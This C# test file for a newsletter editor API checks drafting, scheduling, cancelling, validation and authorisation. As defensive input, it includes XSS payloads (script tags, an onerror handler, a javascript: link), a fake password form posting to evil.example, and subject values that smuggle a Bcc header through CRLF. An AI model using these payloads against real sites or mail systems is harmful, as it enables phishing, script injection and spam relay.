using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using System.Text.Json.Nodes;
using CareerKit.Newsletter;
using CareerKit.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;

namespace CareerKit.Tests.Editor;

/// <summary>Editors' editions through the JSON API: compose, preview, test-send, schedule, cancel, dispatch.</summary>
public sealed class EditorEditionsTests : IAsyncLifetime
{
    private static readonly DateTimeOffset Start = new(2120, 3, 4, 6, 0, 0, TimeSpan.Zero); // A Monday, before the weekly send at 09:00.
    private EditorApi _api = null!;
    private CareerKitApp _app = null!;
    private HttpClient _editor = null!;
    private List<Tip> _mlTips = null!;

    public async Task InitializeAsync()
    {
        _api = await EditorApi.StartAsync("ed", Start);
        (_app, _editor, _mlTips) = (_api.App, _api.Editor, _api.MlTips);
    }

    public async Task DisposeAsync() => await _api.DisposeAsync();

    private object Draft(string subject = "Two tips for the week", string intro = "A **short** intro.", string track = "ml", string[]? tips = null) =>
        new { track, subject, preheader = "Read on", intro, tipIds = tips ?? [_mlTips[0].Id, _mlTips[1].Id] };

    private Task<(string Id, string ETag)> CreateAsync(object draft) => _api.CreateDraftAsync(draft);

    private Task<HttpResponseMessage> SendAsync(HttpMethod method, string path, string? etag = null, object? body = null) => _api.SendAsync(method, path, etag, body);

    [Fact]
    public async Task A_scheduled_edition_reaches_each_confirmed_subscriber_of_its_track_once_and_takes_the_place_of_the_weekly_one()
    {
        var readers = new[] { CareerKitApp.NewAddress("ed1"), CareerKitApp.NewAddress("ed2") };
        foreach (var reader in readers)
        {
            await _app.SubscribeAndConfirmAsync(reader, "ml", "Sam");
        }

        await _app.SubscribeAndConfirmAsync(CareerKitApp.NewAddress("ai-reader"), "ai");
        await _app.SignUpAsync(CareerKitApp.NewAddress("pending"), "ml"); // Never confirmed.
        var (id, etag) = await CreateAsync(Draft());
        var preview = await (await _editor.GetAsync($"/api/editor/drafts/{id}/preview")).Content.ReadFromJsonAsync<JsonObject>();
        var sendAt = Start.AddMinutes(5);

        var scheduled = await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/schedule", etag, new { sendAt });
        await _app.RunTimerAsync(NewsletterTimers.DispatchScheduledFunction); // Not due yet.
        _app.Time.Advance(TimeSpan.FromMinutes(6));
        await _app.RunTimerAsync(NewsletterTimers.DispatchScheduledFunction);
        await SendQueuedBatchesAsync();
        _app.Time.Advance(TimeSpan.FromHours(3)); // After 09:00: the weekly timer's time.
        await _app.RunTimerAsync(NewsletterTimers.WeeklyTipsFunction);
        await SendQueuedBatchesAsync();

        Assert.Equal(HttpStatusCode.OK, scheduled.StatusCode);
        Assert.Contains("Hi Alex, here are this week's tips", preview!["html"]!.GetValue<string>());
        Assert.Contains(_app.Logs.Lines, line => line.Contains("DispatchScheduled: started 1 edition(s)", StringComparison.Ordinal));
        var ml = _app.SendGrid.Sent.Select(CapturedEmail.From).Where(email => email.Categories.Contains("tips-ml")).ToList();
        var body = Assert.Single(ml); // The editor's edition, and no weekly one for ml that week.
        Assert.Equal("Two tips for the week", body.Subject);
        Assert.Equal(readers.Order(), body.Body["personalizations"]!.AsArray().Select(item => item!["to"]![0]!["email"]!.GetValue<string>()).Order());
        Assert.Single(_app.SendGrid.Sent.Select(CapturedEmail.From), email => email.Categories.Contains("tips-ai")); // Other tracks get their weekly edition.
        var status = await (await _editor.GetAsync($"/api/editor/drafts/{id}")).Content.ReadFromJsonAsync<JsonObject>();
        Assert.Equal("sent", status!["status"]!.GetValue<string>());
        var cancelLate = await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/cancel", scheduled.Headers.ETag!.ToString());
        Assert.Equal(HttpStatusCode.Conflict, cancelLate.StatusCode);
    }

    [Fact]
    public async Task Markup_in_an_intro_reaches_no_preview_email_or_archive_as_markup()
    {
        var intro = "Hello <script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3))\n\n"
            + "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Log in</button></form>\n\n<b>raw</b> **bold**";
        var (id, etag) = await CreateAsync(Draft(intro: intro));

        var preview = (await (await _editor.GetAsync($"/api/editor/drafts/{id}/preview")).Content.ReadFromJsonAsync<JsonObject>())!["html"]!.GetValue<string>();
        var test = await _editor.PostAsJsonAsync($"/api/editor/drafts/{id}/test", new { to = "editor@example.com" });
        await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/schedule", etag, new { sendAt = Start.AddMinutes(1) });
        _app.Time.Advance(TimeSpan.FromMinutes(2));
        await _app.RunTimerAsync(NewsletterTimers.DispatchScheduledFunction);
        var archive = await _app.Client.GetAsync($"/archive/{Edition.IdFor(Track.Ml, Start)}");

        Assert.Equal(HttpStatusCode.Accepted, test.StatusCode);
        Assert.Equal(HttpStatusCode.OK, archive.StatusCode);
        var sent = Assert.Single(_app.SendGrid.EmailsTo("editor@example.com"));
        Assert.StartsWith("[TEST] ", sent.Subject);
        foreach (var html in new[] { preview, sent.Html, await archive.Content.ReadAsStringAsync() })
        {
            var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);
            Assert.Empty(document.QuerySelectorAll("form, input, button, textarea, select, img, b, script"));
            Assert.DoesNotContain(document.All.SelectMany(element => element.Attributes), attribute => attribute.Name.StartsWith("on", StringComparison.Ordinal));
            Assert.DoesNotContain(document.QuerySelectorAll("a"), link => link.GetAttribute("href")?.Contains("javascript:", StringComparison.OrdinalIgnoreCase) == true);
            Assert.DoesNotContain(document.All.SelectMany(element => element.Attributes), attribute => attribute.Value.Contains("evil.example", StringComparison.Ordinal)); // At most visible text.
            Assert.Contains("<strong>bold</strong>", html, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("subject", "Two tips\r\nBcc: everyone@example.com")]
    [InlineData("subject", "Two\ntips")]
    [InlineData("subject", "Two\0tips")]
    [InlineData("preheader", "Read\r\non")]
    [InlineData("preheader", "Read\0on")]
    public async Task A_subject_or_preheader_with_a_line_break_or_NUL_is_refused_naming_the_field(string field, string value)
    {
        var draft = new Dictionary<string, object> { ["track"] = "ml", ["subject"] = "Two tips", ["preheader"] = "Read on", ["intro"] = "Hi", ["tipIds"] = new[] { _mlTips[0].Id } };
        draft[field] = value;
        var (id, etag) = await CreateAsync(Draft());

        var created = await _editor.PostAsJsonAsync("/api/editor/drafts", draft);
        var updated = await SendAsync(HttpMethod.Put, $"/api/editor/drafts/{id}", etag, draft);

        foreach (var response in new[] { created, updated })
        {
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            var errors = (await response.Content.ReadFromJsonAsync<JsonObject>())!["errors"]!.AsObject();
            Assert.Equal([field], errors.Select(pair => pair.Key));
            Assert.Contains($"The {field} must be one line", errors[field]![0]!.GetValue<string>(), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Bad_editions_are_refused_with_every_problem_by_field()
    {
        var response = await _editor.PostAsJsonAsync("/api/editor/drafts", new { track = "web", subject = new string('s', 151), intro = new string('x', 21 * 1024), tipIds = new[] { "no-such-tip" } });
        var empty = await _editor.PostAsJsonAsync("/api/editor/drafts", new { track = "ml", subject = " ", tipIds = Array.Empty<string>() });
        var garbled = await _editor.PostAsync("/api/editor/drafts", new StringContent("{not json", System.Text.Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var errors = (await response.Content.ReadFromJsonAsync<JsonObject>())!["errors"]!.AsObject();
        Assert.Equal(["intro", "subject", "tipIds", "track"], errors.Select(pair => pair.Key).Order());
        Assert.Contains("150 characters", errors["subject"]![0]!.GetValue<string>());
        Assert.Contains("no-such-tip", errors["tipIds"]![0]!.GetValue<string>());
        var emptyErrors = (await empty.Content.ReadFromJsonAsync<JsonObject>())!["errors"]!.AsObject();
        Assert.Equal("Write a subject.", emptyErrors["subject"]![0]!.GetValue<string>());
        Assert.Equal("Pick at least one tip.", emptyErrors["tipIds"]![0]!.GetValue<string>());
        Assert.Equal(HttpStatusCode.BadRequest, garbled.StatusCode);
    }

    [Fact]
    public async Task Changes_need_the_current_version_and_a_stale_one_is_told_someone_else_changed_it()
    {
        var (id, etag) = await CreateAsync(Draft());

        var unversioned = await SendAsync(HttpMethod.Put, $"/api/editor/drafts/{id}", null, Draft(subject: "Mine"));
        var first = await SendAsync(HttpMethod.Put, $"/api/editor/drafts/{id}", etag, Draft(subject: "First editor's"));
        var second = await SendAsync(HttpMethod.Put, $"/api/editor/drafts/{id}", etag, Draft(subject: "Second editor's"));
        var past = await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/schedule", first.Headers.ETag!.ToString(), new { sendAt = Start.AddMinutes(-1) });
        var unknown = await _editor.GetAsync("/api/editor/drafts/000000000000");

        Assert.Equal(HttpStatusCode.PreconditionRequired, unversioned.StatusCode);
        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        Assert.Equal(HttpStatusCode.PreconditionFailed, second.StatusCode);
        Assert.Contains("Someone else changed this edition", await second.Content.ReadAsStringAsync());
        Assert.Equal(HttpStatusCode.BadRequest, past.StatusCode);
        Assert.Contains("future", await past.Content.ReadAsStringAsync());
        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
    }

    [Fact]
    public async Task Cancelling_a_scheduled_edition_frees_its_week_for_the_weekly_email()
    {
        await _app.SubscribeAndConfirmAsync(CareerKitApp.NewAddress("cancel"), "ml");
        var (id, etag) = await CreateAsync(Draft(subject: "Cancelled one"));
        var scheduled = await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/schedule", etag, new { sendAt = Start.AddHours(1) });

        var cancelled = await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/cancel", scheduled.Headers.ETag!.ToString());
        _app.Time.Advance(TimeSpan.FromDays(1));
        await _app.RunTimerAsync(NewsletterTimers.DispatchScheduledFunction);
        await _app.RunTimerAsync(NewsletterTimers.WeeklyTipsFunction);
        await SendQueuedBatchesAsync();

        Assert.Equal(HttpStatusCode.OK, cancelled.StatusCode);
        Assert.Equal("cancelled", (await cancelled.Content.ReadFromJsonAsync<JsonObject>())!["status"]!.GetValue<string>());
        var ml = Assert.Single(_app.SendGrid.Sent.Select(CapturedEmail.From), email => email.Categories.Contains("tips-ml"));
        Assert.NotEqual("Cancelled one", ml.Subject);
    }

    [Fact]
    public async Task A_scheduled_edition_moved_back_to_drafts_can_be_edited_and_scheduled_into_another_week()
    {
        var (id, etag) = await CreateAsync(Draft(subject: "Moved around"));
        var scheduled = await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/schedule", etag, new { sendAt = Start.AddHours(1) });

        var editWhileScheduled = await SendAsync(HttpMethod.Put, $"/api/editor/drafts/{id}", scheduled.Headers.ETag!.ToString(), Draft(subject: "Too early"));
        var back = await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/unschedule", scheduled.Headers.ETag!.ToString());
        var edited = await SendAsync(HttpMethod.Put, $"/api/editor/drafts/{id}", back.Headers.ETag!.ToString(), Draft(subject: "Moved a week"));
        var again = await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/schedule", edited.Headers.ETag!.ToString(), new { sendAt = Start.AddDays(7) });
        var unscheduleDraft = await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/unschedule", again.Headers.ETag!.ToString());

        Assert.Equal(HttpStatusCode.Conflict, editWhileScheduled.StatusCode);
        Assert.Equal(HttpStatusCode.OK, back.StatusCode);
        Assert.Equal("draft", (await back.Content.ReadFromJsonAsync<JsonObject>())!["status"]!.GetValue<string>());
        Assert.Equal(HttpStatusCode.OK, edited.StatusCode);
        Assert.Equal(HttpStatusCode.OK, again.StatusCode);
        Assert.Equal(HttpStatusCode.OK, unscheduleDraft.StatusCode);
        Assert.Null(await _app.Services.GetRequiredService<EditionStore>().FindAsync(Track.Ml, Edition.IsoWeekOf(Start), CancellationToken.None)); // The first week is free again.
    }

    [Theory]
    [InlineData("""{ "sendAt": "2026-13-40T09:00:00Z" }""", "$.sendAt")]
    [InlineData("""{ "sendAt": 12 }""", "$.sendAt")]
    [InlineData("""{ "sendAt": """, "JSON")]
    public async Task A_schedule_that_is_not_a_date_is_refused_saying_which_field(string body, string expected)
    {
        var (id, etag) = await CreateAsync(Draft(subject: "Bad date"));
        var request = new HttpRequestMessage(HttpMethod.Post, $"/api/editor/drafts/{id}/schedule") { Content = new StringContent(body, System.Text.Encoding.UTF8, "application/json") };
        request.Headers.TryAddWithoutValidation("If-Match", etag);

        var response = await _editor.SendAsync(request);
        var problem = await response.Content.ReadFromJsonAsync<JsonObject>();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType!.MediaType);
        Assert.Contains(expected, problem!["detail"]!.GetValue<string>(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_operation_answers_401_without_an_editor_key()
    {
        var (id, _) = await CreateAsync(Draft());
        var anonymous = _app.NewClient();
        var calls = new (HttpMethod Method, string Path)[]
        {
            (HttpMethod.Get, "/api/editor/drafts"), (HttpMethod.Post, "/api/editor/drafts"), (HttpMethod.Get, $"/api/editor/drafts/{id}"),
            (HttpMethod.Put, $"/api/editor/drafts/{id}"), (HttpMethod.Get, $"/api/editor/drafts/{id}/preview"), (HttpMethod.Post, $"/api/editor/drafts/{id}/test"),
            (HttpMethod.Post, $"/api/editor/drafts/{id}/schedule"), (HttpMethod.Post, $"/api/editor/drafts/{id}/unschedule"), (HttpMethod.Post, $"/api/editor/drafts/{id}/cancel"),
            (HttpMethod.Get, "/api/editor/editions"), (HttpMethod.Get, "/api/editor/audit"),
        };

        foreach (var (method, path) in calls)
        {
            var response = await anonymous.SendAsync(new HttpRequestMessage(method, path) { Content = JsonContent.Create(new { }) });
            Assert.True(response.StatusCode == HttpStatusCode.Unauthorized, $"{method} {path} answered {(int)response.StatusCode}");
        }
    }

    /// <summary>Runs every queued batch through the queue function, as the host would.</summary>
    private async Task SendQueuedBatchesAsync()
    {
        var queue = _app.Services.GetRequiredService<SendQueue>().Client;
        await queue.CreateIfNotExistsAsync();
        while ((await queue.ReceiveMessagesAsync(32)).Value is { Length: > 0 } messages)
        {
            foreach (var message in messages)
            {
                var batch = JsonSerializer.Deserialize<SendBatchMessage>(message.Body.ToString(), JsonSerializerOptions.Web)!;
                Assert.NotNull(await _app.DeliverBatchAsync(batch));
                await queue.DeleteMessageAsync(message.MessageId, message.PopReceipt);
            }
        }
    }
}
